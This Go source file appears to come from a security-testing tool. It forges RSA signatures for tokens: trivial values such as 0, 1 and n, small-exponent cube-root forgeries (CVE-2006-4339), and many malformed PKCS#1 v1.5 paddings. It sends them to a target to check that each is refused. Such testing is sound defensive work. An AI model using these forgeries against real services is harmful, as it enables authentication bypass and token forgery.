package attack

import (
	"bytes"
	"context"
	"crypto"
	"crypto/rsa"
	"fmt"
	"math/big"
	"slices"
	"strings"
)

// padded sends RSA signatures that a careless verifier takes: other numbers that stand
// for the same one, and, where something signs for us, other paddings.
func padded(ctx context.Context, t *Target, y *Tally) error {
	f, err := begin(ctx, t, y)
	if f == nil {
		return err
	}
	key := f.rsaKey()
	if key == nil {
		y.Say("the public key is not known, so that only what needs none was tried")
	}
	all := f.rsaNumbers(key)
	if key != nil && key.E <= 5 {
		all = append(all, f.rootForged(key)...)
	}
	if err := f.refused(ctx, all); err != nil {
		return err
	}
	if t.Material.Sign == nil {
		y.Say("nothing here can sign as the target does, so that paddings of other forms were not tried")
		return nil
	}
	return f.paddings(ctx)
}

// rsaKey is the target's key as far as it is known.
func (f *forge) rsaKey() *rsa.PublicKey {
	for _, k := range f.t.Material.Keys {
		if public, ok := k.Public.(*rsa.PublicKey); ok && (k.ID == f.kid || len(f.t.Material.Keys) == 1) {
			return public
		}
	}
	return nil
}

// rsaNumbers are signatures that need no private key.
func (f *forge) rsaNumbers(key *rsa.PublicKey) []variation {
	k := len(f.sig)
	one, s := big.NewInt(1), new(big.Int).SetBytes(f.sig)
	numbers := map[string]*big.Int{"0": new(big.Int), "1": one, "2": big.NewInt(2)}
	if key != nil {
		numbers["n"], numbers["n-1"], numbers["n+1"] = key.N, new(big.Int).Sub(key.N, one), new(big.Int).Add(key.N, one)
		numbers["minus the signature"] = new(big.Int).Sub(key.N, s)
		numbers["the signature plus n"] = new(big.Int).Add(s, key.N)
		numbers["the signature plus 2n"] = new(big.Int).Add(numbers["the signature plus n"], key.N)
	}
	var all []variation
	for what, number := range sorted(numbers) {
		size := max(k, (number.BitLen()+7)/8)
		all = append(all, variation{what, f.sealed(number.FillBytes(make([]byte, size)))})
		all = append(all, variation{what + ", a byte longer", f.sealed(number.FillBytes(make([]byte, size+1)))})
	}
	return append(all, variation{"the signature, a zero byte before it", f.sealed(slices.Concat([]byte{0}, f.sig))})
}

// rootForged are signatures for a small exponent: the root of a padding that is right at
// its beginning and rubbish behind (CVE-2006-4339).
func (f *forge) rootForged(key *rsa.PublicKey) []variation {
	block := f.digestInfo()
	if block == nil {
		return nil
	}
	var all []variation
	for _, ps := range []int{1, 8} {
		prefix := slices.Concat([]byte{0, 1}, []byte(strings.Repeat("\xff", ps)), []byte{0}, block)
		if len(prefix) > key.Size() {
			continue
		}
		low := new(big.Int).Lsh(new(big.Int).SetBytes(prefix), uint(8*(key.Size()-len(prefix))))
		root := ceilRoot(low, key.E)
		all = append(all, variation{fmt.Sprintf("the root of %d bytes of padding and rubbish", ps), f.sealed(root.FillBytes(make([]byte, key.Size())))})
	}
	return all
}

// ceilRoot is the smallest x with x^e >= n.
func ceilRoot(n *big.Int, e int) *big.Int {
	low, high := new(big.Int), new(big.Int).Lsh(big.NewInt(1), uint(n.BitLen()/e+1))
	exp := big.NewInt(int64(e))
	for low.Cmp(high) < 0 {
		mid := new(big.Int).Rsh(new(big.Int).Add(low, high), 1)
		if new(big.Int).Exp(mid, exp, nil).Cmp(n) < 0 {
			low.Add(mid, big.NewInt(1))
		} else {
			high.Set(mid)
		}
	}
	return low
}

// digestHeads are what stands before the hash (RFC 8017 section 9.2, note 1).
func digestHeads() map[crypto.Hash]string {
	return map[crypto.Hash]string{
		crypto.SHA1:   "\x30\x21\x30\x09\x06\x05\x2b\x0e\x03\x02\x1a\x05\x00\x04\x14",
		crypto.SHA256: "\x30\x31\x30\x0d\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01\x05\x00\x04\x20",
		crypto.SHA384: "\x30\x41\x30\x0d\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x02\x05\x00\x04\x30",
		crypto.SHA512: "\x30\x51\x30\x0d\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x03\x05\x00\x04\x40",
	}
}

// hash is what f's algorithm hashes with.
func (f *forge) hash() crypto.Hash {
	return map[string]crypto.Hash{"RS256": crypto.SHA256, "RS384": crypto.SHA384, "RS512": crypto.SHA512}[f.alg]
}

// digestInfo is the DigestInfo of f's input; nil for an algorithm without one.
func (f *forge) digestInfo() []byte {
	h := f.hash()
	if h == 0 {
		return nil
	}
	return append([]byte(digestHeads()[h]), sum(h, f.input())...)
}

func sum(h crypto.Hash, input string) []byte {
	w := h.New()
	w.Write([]byte(input))
	return w.Sum(nil)
}

// paddings have the target's own key applied to paddings of other forms. The right one is
// the control.
func (f *forge) paddings(ctx context.Context) error {
	k, h := len(f.sig), f.hash()
	right := f.digestInfo()
	if right == nil {
		f.y.Unknown("%s has no padding that is known here", f.alg)
		return nil
	}
	digest := right[len(digestHeads()[h]):]
	token, err := f.mint(ctx, minting{header: f.head, payload: f.body, padded: encoded(k, 0, 1, 0xff, right)})
	if err != nil {
		return fmt.Errorf("apply the key to the right padding: %w", err)
	}
	a, err := f.t.With(ctx, f.u, token)
	if err != nil || !f.y.Control("the right padding, made by hand", a) {
		return err
	}
	for what, em := range sorted(f.wrongPaddings(k, h, right, digest)) {
		token, err := f.mint(ctx, minting{header: f.head, payload: f.body, padded: em})
		if err != nil {
			return fmt.Errorf("apply the key to %s: %w", what, err)
		}
		if err := f.refused(ctx, []variation{{what, token}}); err != nil {
			return err
		}
	}
	return nil
}

// encoded is a block of k bytes: 00, type, padding, 00, block (RFC 8017 section 9.2).
func encoded(k int, first, kind, fill byte, block []byte) []byte {
	padding := bytes.Repeat([]byte{fill}, k-3-len(block))
	return slices.Concat([]byte{first, kind}, padding, []byte{0}, block)
}

// wrongPaddings are blocks that none but the right one may be taken for. One without the
// NULL of the algorithm's parameters is left out: RFC 8017 lets it pass (section 9.2).
func (f *forge) wrongPaddings(k int, h crypto.Hash, right, digest []byte) map[string][]byte {
	short := encoded(len(right)+11, 0, 1, 0xff, right)
	behind := slices.Concat(short, make([]byte, k-len(short)))
	ones := slices.Concat(short, []byte(strings.Repeat("\xff", k-len(short))))
	hole := encoded(k, 0, 1, 0xff, right)
	hole[20] = 0
	spot := encoded(k, 0, 1, 0xff, right)
	spot[20] = 0xfe
	noEnd := encoded(k, 0, 1, 0xff, right)
	noEnd[k-1-len(right)] = 0xff
	longer := slices.Clone(right)
	longer[1] += 4
	// The parameters of the algorithm may be anything, to a careless parser.
	params := slices.Concat([]byte{0x30, right[1] + 8, 0x30, right[3] + 8}, right[4:4+int(right[3])-2], []byte{0x04, 0x08}, make([]byte, 8), right[4+int(right[3]):])
	long := slices.Concat([]byte{0x30, 0x81}, right[1:])
	out := map[string][]byte{
		"8 bytes of padding, zeros behind the hash":          behind,
		"8 bytes of padding, ones behind the hash":           ones,
		"a zero in the padding":                              hole,
		"another byte in the padding":                        spot,
		"padding without an end":                             noEnd,
		"padding of type 2":                                  encoded(k, 0, 2, 0xff, right),
		"padding of type 0":                                  encoded(k, 0, 0, 0, right),
		"padding of zeros":                                   encoded(k, 0, 1, 0, right),
		"the hash without its DigestInfo":                    encoded(k, 0, 1, 0xff, digest),
		"the hash in an OCTET STRING":                        encoded(k, 0, 1, 0xff, append([]byte{4, byte(len(digest))}, digest...)),
		"four bytes behind the hash, inside of the SEQUENCE": encoded(k, 0, 1, 0xff, append(longer, 0, 0, 0, 0)),
		"four bytes behind the SEQUENCE":                     encoded(k, 0, 1, 0xff, append(slices.Clone(right), 0, 0, 0, 0)),
		"parameters of eight bytes":                          encoded(k, 0, 1, 0xff, params),
		"a length in its long form":                          encoded(k, 0, 1, 0xff, long),
		"the hash cut by a byte":                             encoded(k, 0, 1, 0xff, right[:len(right)-1]),
		"no padding at all, the hash as a number":            slices.Concat(make([]byte, k-len(digest)), digest),
		"no padding at all, the DigestInfo as a number":      slices.Concat(make([]byte, k-len(right)), right),
	}
	for other, head := range digestHeads() {
		if other != h {
			out["the hash of "+other.String()+", and says so"] = encoded(k, 0, 1, 0xff, append([]byte(head), sum(other, f.input())...))
			out["the hash of "+h.String()+" as if "+other.String()] = encoded(k, 0, 1, 0xff, append([]byte(head), digest...))
		}
	}
	return out
}
